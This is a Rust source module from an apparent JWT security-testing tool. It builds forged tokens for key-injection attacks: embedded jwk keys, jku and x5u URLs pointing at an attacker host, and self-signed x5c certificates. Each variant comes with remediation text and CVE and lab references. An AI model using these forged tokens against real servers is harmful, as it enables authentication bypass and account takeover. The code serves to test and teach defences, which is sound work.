//! Keys the token brings along: an embedded `jwk`, a `jku` or `x5u` URL, and an `x5c`
//! self-signed certificate, each signed with a freshly generated attacker key.

use super::{AttackError, Draft, Group, Original, cert, json_str, signed};
use crate::core::alg::JwsAlg;
use crate::core::claims::NumericDate;
use crate::core::keys::{self, Key, KeySpec};
use base64::Engine;
use serde_json::Value;

const JWK_MUST: &str = "Reject it: the server must verify with keys it already trusts and ignore a key that arrives inside the token; a jwk header can at most select one of the trusted keys by exact match.";
const JWK_REF: &str = "CVE-2018-0114 (node-jose before 0.11.0 trusted the embedded jwk); PortSwigger Web Security Academy lab \"JWT authentication bypass via jwk header injection\", https://portswigger.net/web-security/jwt/lab-jwt-authentication-bypass-via-jwk-header-injection";
const URL_MUST: &str = "Reject it: the server must never fetch keys from a URL the token names; keys come from a configured issuer URL (or an exact allow-list), and nothing is fetched before the token is otherwise acceptable.";
const JKU_REF: &str = "PortSwigger Web Security Academy lab \"JWT authentication bypass via jku header injection\", https://portswigger.net/web-security/jwt/lab-jwt-authentication-bypass-via-jku-header-injection; RFC 7515 section 4.1.2";
const X5U_REF: &str = "RFC 7515 section 4.1.5 (x5u); the same trust mistake as PortSwigger's \"JWT authentication bypass via jku header injection\", https://portswigger.net/web-security/jwt/lab-jwt-authentication-bypass-via-jku-header-injection";
const X5C_MUST: &str = "Reject it: a certificate in x5c proves nothing by itself; the server must validate its chain to a trust anchor it configured (and check the name it expects) before using its key, or ignore x5c altogether.";
const X5C_REF: &str = "RFC 7515 section 4.1.6 (x5c) and RFC 5280 path validation; the same trust mistake as CVE-2018-0114 (embedded keys)";

/// The freshly generated attacker keys, one of each kind, made once per lab.
struct Fresh {
    rsa: Key,
    ec: Key,
}

/// The public JWK of `key` as JSON text.
fn public_jwk(key: &Key) -> Result<String, AttackError> {
    Ok(Value::Object(key.public_half().to_jwk(false)?).to_string())
}

/// The key's kid (generated keys always have one: the RFC 7638 thumbprint).
fn kid(key: &Key) -> String {
    key.kid.clone().unwrap_or_else(|| key.thumbprint())
}

fn jwk_variant(orig: &Original, key: &Key, alg: JwsAlg, what: &str) -> Result<Draft, AttackError> {
    let header = orig.header_with(&[
        ("alg", json_str(alg.name())),
        ("kid", json_str(&kid(key))),
        ("jwk", public_jwk(key)?),
    ])?;
    let id = format!("embedded-jwk-{}", what.to_ascii_lowercase());
    Ok(Draft::new(
        id,
        Group::EmbeddedJwk,
        format!("{alg} signed with a fresh {what} key embedded as jwk"),
        signed(&header, &orig.payload_segment, key, alg)?,
    )
    .text(
        format!("A freshly generated {what} key signs the token and its public half sits in the header's jwk member. A server that verifies with the key the token carries accepts any claims the attacker writes: the signature is genuine, only the key is the attacker's."),
        JWK_MUST,
        JWK_REF,
    ))
}

/// The jwk, jku, x5u and x5c variants, each handed to `out` as soon as it is made; generates
/// one RSA-2048 and one EC P-256 key.
pub(super) fn variants(
    orig: &Original,
    url: &str,
    now: NumericDate,
    out: &mut dyn FnMut(Draft),
) -> Result<(), AttackError> {
    let fresh = Fresh {
        rsa: keys::generate(&KeySpec::new(JwsAlg::RS256))?,
        ec: keys::generate(&KeySpec::new(JwsAlg::ES256))?,
    };
    out(jwk_variant(orig, &fresh.rsa, JwsAlg::RS256, "RSA")?);
    out(jwk_variant(orig, &fresh.ec, JwsAlg::ES256, "EC")?);

    let rsa_kid = kid(&fresh.rsa);
    let jwks = keys::public_jwks(&[fresh.rsa.public_half()]).to_string();
    let header = orig.header_with(&[
        ("alg", json_str("RS256")),
        ("kid", json_str(&rsa_kid)),
        ("jku", json_str(url)),
    ])?;
    let mut jku = Draft::new(
        "jku-attacker-url",
        Group::KeyUrl,
        format!("RS256 with jku pointing at {url}"),
        signed(&header, &orig.payload_segment, &fresh.rsa, JwsAlg::RS256)?,
    )
    .text(
        format!("The header's jku names {url} and kid \"{rsa_kid}\"; a fresh RSA key signs the token. A server that fetches the JWKS the token points at and picks the key by kid verifies it with the attacker's key. To run it, serve the JWKS below at that URL from a host you control; this workbench never fetches it."),
        URL_MUST,
        JKU_REF,
    );
    jku.serve = Some(jwks);
    out(jku);

    let rsa_cert = cert::self_signed(&fresh.rsa, now)?;
    let header = orig.header_with(&[
        ("alg", json_str("RS256")),
        ("kid", json_str(&rsa_kid)),
        ("x5u", json_str(url)),
    ])?;
    let mut x5u = Draft::new(
        "x5u-attacker-url",
        Group::KeyUrl,
        format!("RS256 with x5u pointing at {url}"),
        signed(&header, &orig.payload_segment, &fresh.rsa, JwsAlg::RS256)?,
    )
    .text(
        format!("The header's x5u names {url}: the URL of a PEM certificate whose key signed the token (a fresh RSA key with a self-signed certificate, CN \"{}\"). A server that fetches it and trusts its key without validating the chain accepts the token. To run it, serve the certificate below at that URL; this workbench never fetches it.", cert::SUBJECT_CN),
        URL_MUST,
        X5U_REF,
    );
    x5u.serve = Some(keys::pem_encode("CERTIFICATE", &rsa_cert));
    out(x5u);

    let ec_cert = cert::self_signed(&fresh.ec, now)?;
    for (key, der, alg, what) in [
        (&fresh.rsa, &rsa_cert, JwsAlg::RS256, "RSA"),
        (&fresh.ec, &ec_cert, JwsAlg::ES256, "EC"),
    ] {
        let chain = Value::Array(vec![Value::String(
            base64::engine::general_purpose::STANDARD.encode(der),
        )]);
        let header =
            orig.header_with(&[("alg", json_str(alg.name())), ("x5c", chain.to_string())])?;
        out(
            Draft::new(
                format!("x5c-self-signed-{}", what.to_ascii_lowercase()),
                Group::X5c,
                format!("{alg} with a self-signed {what} certificate in x5c"),
                signed(&header, &orig.payload_segment, key, alg)?,
            )
            .text(
                format!("A fresh {what} key signs the token and a self-signed X.509 v3 certificate for it (CN \"{}\", {} bytes of DER) sits in x5c. A server that takes the key from the first certificate without validating the chain to a trusted root accepts it.", cert::SUBJECT_CN, der.len()),
                X5C_MUST,
                X5C_REF,
            ),
        );
    }
    Ok(())
}
